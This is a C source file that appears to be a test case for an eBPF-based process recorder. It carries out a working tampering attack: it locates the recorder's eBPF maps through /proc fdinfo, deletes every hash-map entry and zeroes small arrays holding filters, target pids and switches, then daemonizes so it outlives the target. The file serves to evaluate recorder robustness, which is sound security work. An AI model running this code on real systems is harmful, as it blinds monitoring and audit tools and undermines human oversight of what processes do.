/* Tamper with the recorder's own eBPF maps (root, CAP_SYS_ADMIN): find the map ids in
 * /proc/RECORDER/fdinfo, skip any map another process also holds (so no other recorder on the
 * machine is touched), open each by id (BPF_MAP_GET_FD_BY_ID), empty every hash map and zero
 * every small writable array (the .bss/.data globals: filters, target pids, switches). Then
 * fork + exec /bin/touch rtm4_bpf_tamper. Nothing is read from the maps' contents: this is the
 * blind attack any root package can make on an eBPF recorder. It runs in a daemon (double fork
 * + setsid) so that it survives the target. */
#include "r4.h"
#include <linux/bpf.h>
#define MAXM 256
static long bpf(int cmd, union bpf_attr *a) { return syscall(SYS_bpf, cmd, a, sizeof *a); }
static int ids_of(pid_t pid, unsigned *ids, int max)
{
    char dir[64], path[400], line[256];
    snprintf(dir, sizeof dir, "/proc/%d/fdinfo", pid);
    DIR *d = opendir(dir);
    int n = 0;
    if (!d)
        return 0;
    struct dirent *e;
    while ((e = readdir(d)) && n < max) {
        if (e->d_name[0] == '.')
            continue;
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        FILE *f = fopen(path, "r");
        if (!f)
            continue;
        unsigned id;
        while (fgets(line, sizeof line, f))
            if (sscanf(line, "map_id: %u", &id) == 1) {
                int dup = 0;
                for (int i = 0; i < n; i++)
                    dup |= ids[i] == id;
                if (!dup)
                    ids[n++] = id;
            }
        fclose(f);
    }
    closedir(d);
    return n;
}
static void attack(pid_t rec)
{
    unsigned mine[MAXM];
    int nm = ids_of(rec, mine, MAXM);
    /* Maps any other process holds are shared: leave them alone. */
    int shared[MAXM] = {0};
    DIR *pd = opendir("/proc");
    struct dirent *pe;
    while ((pe = readdir(pd))) {
        pid_t p = atoi(pe->d_name);
        if (p <= 0 || p == rec || p == getpid())
            continue;
        unsigned other[MAXM];
        int no = ids_of(p, other, MAXM);
        for (int i = 0; i < nm; i++)
            for (int j = 0; j < no; j++)
                if (mine[i] == other[j])
                    shared[i] = 1;
    }
    closedir(pd);
    int hashes = 0, arrays = 0, entries = 0, nshared = 0;
    for (int i = 0; i < nm; i++)
        nshared += shared[i];
    char names[1024] = "";
    for (int i = 0; i < nm; i++) {
        if (shared[i])
            continue;
        union bpf_attr a;
        memset(&a, 0, sizeof a);
        a.map_id = mine[i];
        int fd = bpf(BPF_MAP_GET_FD_BY_ID, &a);
        if (fd < 0)
            continue;
        struct bpf_map_info info;
        memset(&info, 0, sizeof info);
        memset(&a, 0, sizeof a);
        a.info.bpf_fd = fd;
        a.info.info_len = sizeof info;
        a.info.info = (uintptr_t)&info;
        if (bpf(BPF_OBJ_GET_INFO_BY_FD, &a) < 0)
            continue;
        static char zero[4096];
        if (info.value_size > sizeof zero)
            continue;
        int t = info.type, touched = 0;
        if (t == BPF_MAP_TYPE_HASH || t == BPF_MAP_TYPE_LRU_HASH || t == BPF_MAP_TYPE_PERCPU_HASH || t == BPF_MAP_TYPE_LRU_PERCPU_HASH) {
            /* Collect the keys first, then delete each once: deleting while walking would
             * loop forever on a map the recorder refills (it tracks this very process). */
            static char keys[1024][64];
            int nk = 0;
            void *prev = NULL;
            while (nk < 1024 && info.key_size <= 64) {
                memset(&a, 0, sizeof a);
                a.map_fd = fd;
                a.key = (uintptr_t)prev;
                a.next_key = (uintptr_t)keys[nk];
                if (bpf(BPF_MAP_GET_NEXT_KEY, &a) < 0)
                    break;
                prev = keys[nk++];
            }
            for (int k = 0; k < nk; k++) {
                memset(&a, 0, sizeof a);
                a.map_fd = fd;
                a.key = (uintptr_t)keys[k];
                if (bpf(BPF_MAP_DELETE_ELEM, &a) == 0) {
                    entries++;
                    touched = 1;
                }
            }
            hashes += touched;
        } else if (t == BPF_MAP_TYPE_ARRAY && info.max_entries <= 64) {
            for (unsigned k = 0; k < info.max_entries; k++) {
                memset(&a, 0, sizeof a);
                a.map_fd = fd;
                a.key = (uintptr_t)&k;
                a.value = (uintptr_t)zero;
                a.flags = BPF_ANY;
                if (bpf(BPF_MAP_UPDATE_ELEM, &a) == 0) {
                    entries++;
                    touched = 1;
                }
            }
            arrays += touched;
        }
        if (touched && strlen(names) + strlen(info.name) + 2 < sizeof names) {
            strcat(names, info.name);
            strcat(names, " ");
        }
        close(fd);
    }
    char *argv[] = {"/bin/touch", SCRATCH "/rtm4_bpf_tamper", NULL};
    int st = spawn_wait(argv);
    did("recorder %d: %d maps (%d shared, skipped); emptied %d hash maps, zeroed %d arrays, %d entries [%s]; then touch: status %d",
        rec, nm, nshared, hashes, arrays, entries, names, st);
}
int main(void)
{
    pid_t rec = find_recorder();
    if (!rec) {
        fprintf(stderr, "no recorder ancestor\n");
        return 1;
    }
    return in_daemon(rec, attack, SCRATCH "/rtm4_bpf_tamper");
}
